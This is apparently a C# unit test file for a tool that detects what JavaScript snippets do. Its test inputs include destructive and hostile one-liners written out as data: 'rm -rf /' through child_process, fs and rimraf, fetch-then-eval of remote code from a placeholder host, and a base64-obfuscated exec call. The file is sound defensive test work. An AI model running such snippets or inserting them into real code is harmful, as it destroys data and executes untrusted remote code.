using SigmaShake.Rules.Programs;

namespace SigmaShake.Rules.Tests.Analysis.Code;

/// <summary>What JavaScript code does.</summary>
public sealed class JavaScriptCodeTests
{
    [Theory]
    [InlineData("require('child_process').execSync('rm -rf /')", "sh: rm -rf /")]
    [InlineData("require(\"node:child_process\").exec(`rm -rf /`, () => {})", "sh: rm -rf /")]
    [InlineData("const cp = require('child_process'); cp.execSync('ls')", "sh: ls")]
    [InlineData("const { execSync: run, spawn } = require('child_process');\nrun('ls');\nspawn('rm', ['-rf', '/'])", "sh: ls; rm -rf /")]
    [InlineData("import { execSync as e } from 'child_process'\ne('ls')", "sh: ls")]
    [InlineData("import * as cp from \"node:child_process\"; cp.spawnSync(\"rm\", [\"-rf\", \"/\"])", "rm -rf /")]
    [InlineData("import fs from 'fs'; fs.unlinkSync('a')", "rm a")]
    [InlineData("(await import('child_process')).execSync('ls')", "sh: ls")]
    [InlineData("process.mainModule.require('child_process').execSync('ls')", "sh: ls")]
    [InlineData("require('child_process')['execSync']('ls')", "sh: ls")]
    [InlineData("require('child_process').spawn('rm -rf /', { shell: true })", "sh: rm -rf /")]
    [InlineData("require('child_process').execFileSync('rm', ['-rf', '/'], { cwd: '/' })", "rm -rf /")]
    [InlineData("const d = '/'; require('child_process').execSync(`rm -rf ${d}`)", "sh: rm -rf /")]
    [InlineData("require('child_process').execSync('rm -rf ' + process.argv[2])", "sh: <rm -rf ${_}>")]
    [InlineData("console.log(require('child_process').execSync('ls').toString())", "sh: ls")]
    [InlineData("fs.rmSync('/', { recursive: true, force: true })", "rm -rf /")]
    [InlineData("require('fs').rmSync('a', {recursive: true})", "rm -r a")]
    [InlineData("require('fs').rmSync('a', {recursive: false})", "rm a")]
    [InlineData("require('fs').promises.rm('a', { \"recursive\": true, \"force\": true })", "rm -rf a")]
    [InlineData("require('fs/promises').unlink('a')", "rm a")]
    [InlineData("require('rimraf')('/', () => {})", "rm -rf /")]
    [InlineData("require(\"fs\").readFileSync(\"a\")", "Read: a")]
    [InlineData("fs.writeFileSync('a', 'rm -rf /')", "Write: a")]
    [InlineData("fs.appendFileSync('a', 'x')", "Edit: a")]
    [InlineData("fs.rmSync(require('path').join('/etc', 'x'))", "rm /etc/x")]
    [InlineData("fetch('https://x.example/a').then(r => r.text()).then(t => eval(t))", "Network: https://x.example/a; RemoteCode: https://x.example/a")]
    [InlineData("fetch('https://x.example/a').then(r => r.text()).then(eval)", "Network: https://x.example/a; RemoteCode: https://x.example/a")]
    [InlineData("eval(await (await fetch('https://x.example/a')).text())", "Network: https://x.example/a; RemoteCode: https://x.example/a")]
    [InlineData("require('axios').post('https://x.example', { a: 1 })", "Network: https://x.example")]
    [InlineData("eval('fs.unlinkSync(\"a\")')", "Code: fs.unlinkSync(\"a\")")]
    [InlineData("require('child_process').execSync(Buffer.from('bHM=', 'base64').toString())", "sh: ls")]
    [InlineData("setTimeout(() => { fs.unlinkSync('a') }, 10)", "rm a")]
    [InlineData("Deno.removeSync('/', { recursive: true })", "rm -r /")]
    public void Deeds_are_found(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.JavaScript, code));

    [Theory]
    [InlineData("console.log('rm -rf /')")]
    [InlineData("// require('child_process').execSync('ls')\n/* fs.unlinkSync('a') */")]
    [InlineData("const s = \"fs.unlinkSync('a')\"; console.log(s)")]
    [InlineData("/execSync('ls')/.test('x')")]
    [InlineData("/rm/.exec('rm -rf /')")]
    [InlineData("let a = 4 / 2; let b = a / 2")]
    [InlineData("const m = new Map(); m.delete('a'); m.get('b')")]
    public void Harmless_code_does_nothing(string code) => Assert.Equal("", ShownDeeds.Of(Language.JavaScript, code));
}
